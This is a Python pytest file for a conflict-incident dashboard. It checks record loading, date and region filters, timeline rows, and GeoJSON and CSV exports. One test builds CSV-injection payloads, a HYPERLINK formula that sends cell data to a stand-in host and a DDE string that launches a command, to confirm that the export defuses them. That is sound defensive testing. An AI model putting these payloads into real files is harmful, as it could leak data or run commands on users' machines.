"""Loading, filtering, timeline and exports of the dashboard (pure functions, sample fixture)."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

from dashboard import data


def ids(records: list[dict]) -> set[str]:
    return {r["id"] for r in records}


def test_load_sample(records: list[dict]) -> None:
    assert ids(records) == {f"BW-000{i}" for i in range(1, 7)}
    khatlon = data.by_id(records)["BW-0001"]
    assert khatlon["geometry"]["type"] in {"Polygon", "MultiPolygon"}
    assert khatlon["killed"] == {"low": 3, "best": 3, "high": 3}


def test_data_dir_env(monkeypatch, tmp_path) -> None:
    monkeypatch.setenv("BORDERWATCH_DATA", str(tmp_path))
    assert data.data_dir() == tmp_path
    monkeypatch.delenv("BORDERWATCH_DATA")
    assert data.data_dir().name == "build"


def test_date_bounds(records: list[dict]) -> None:
    assert data.date_bounds(records) == (date(2025, 11, 20), date(2025, 11, 30))


def test_record_span_uses_earliest_latest(rec) -> None:
    assert data.record_span(rec("BW-0001")) == (date(2025, 11, 26), date(2025, 11, 27))
    assert data.record_span(rec("BW-0005")) is None


def test_date_filter_before_28_nov_hides_30_nov(records: list[dict]) -> None:
    shown = ids(data.filter_records(records, date(2025, 11, 1), date(2025, 11, 27)))
    assert "BW-0002" not in shown
    assert {"BW-0001", "BW-0006"} <= shown
    # the roll-up spans 26–30 Nov, so it may belong to the range and stays
    assert "BW-0003" in shown


def test_date_filter_keeps_overlapping_spans(records: list[dict]) -> None:
    """A record dated 26–27 Nov is still shown for a range that starts on the 27th."""
    shown = ids(data.filter_records(records, date(2025, 11, 27), date(2025, 11, 29)))
    assert "BW-0001" in shown and "BW-0006" not in shown


def test_undated_checkbox(records: list[dict]) -> None:
    rng = (date(2025, 11, 1), date(2025, 12, 31))
    assert {"BW-0004", "BW-0005"} <= ids(data.filter_records(records, *rng, include_undated=True))
    assert not {"BW-0004", "BW-0005"} & ids(data.filter_records(records, *rng, include_undated=False))


def test_kind_and_region_filters(records: list[dict]) -> None:
    assert ids(data.filter_records(records, kinds=["attack"])) == {"BW-0001", "BW-0002", "BW-0006"}
    assert ids(data.filter_records(records, regions=["Khatlon"])) == {"BW-0001"}
    no_region = ids(data.filter_records(records, regions=[data.NO_REGION]))
    assert no_region == {"BW-0003", "BW-0004", "BW-0005"}
    assert data.filter_records(records, kinds=[]) == []


def test_timeline_rows(records: list[dict]) -> None:
    rows = data.timeline_rows(records)
    by_day = {(r["date"], r["kind"]): r for r in rows}
    assert ("2025-11-26", "attack") in by_day and ("2025-11-30", "attack") in by_day
    assert sum(next(v for k, v in r.items() if isinstance(v, int)) for r in rows) == 4  # 2 undated left out


def test_geojson_export_round_trips(records: list[dict]) -> None:
    subset = data.filter_records(records, kinds=["attack"])
    doc = json.loads(data.to_geojson_bytes(subset))
    assert doc["type"] == "FeatureCollection"
    assert {f["properties"]["id"] for f in doc["features"]} == ids(subset)
    khatlon = next(f for f in doc["features"] if f["properties"]["id"] == "BW-0001")
    assert khatlon["geometry"]["type"] in {"Polygon", "MultiPolygon"}
    assert khatlon["properties"]["disagreements"]  # nothing an analyst needs is dropped
    assert khatlon["properties"]["claims"]


def test_csv_export(records: list[dict]) -> None:
    text = data.to_csv_bytes(records).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(records)
    assert any("BW-0001" in row.values() for row in rows)


def test_csv_export_neutralises_formulas(records: list[dict]) -> None:
    """An article title like ``=HYPERLINK(...)`` must not become a live spreadsheet formula."""
    evil = dict(records[0], title='=HYPERLINK("http://x.example/?"&A1,"click")', place="+cmd|' /C calc'!A0")
    text = data.to_csv_bytes([evil]).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(("=", "+", "@")), cell


def test_many_records_filter_fast(many_path) -> None:
    import time

    records = data.load_records(many_path)
    assert len(records) == 5000
    t0 = time.perf_counter()
    shown = data.filter_records(records, date(2024, 3, 1), date(2024, 9, 1), include_undated=False)
    data.timeline_rows(shown)
    assert time.perf_counter() - t0 < 0.5
    assert 0 < len(shown) < 5000
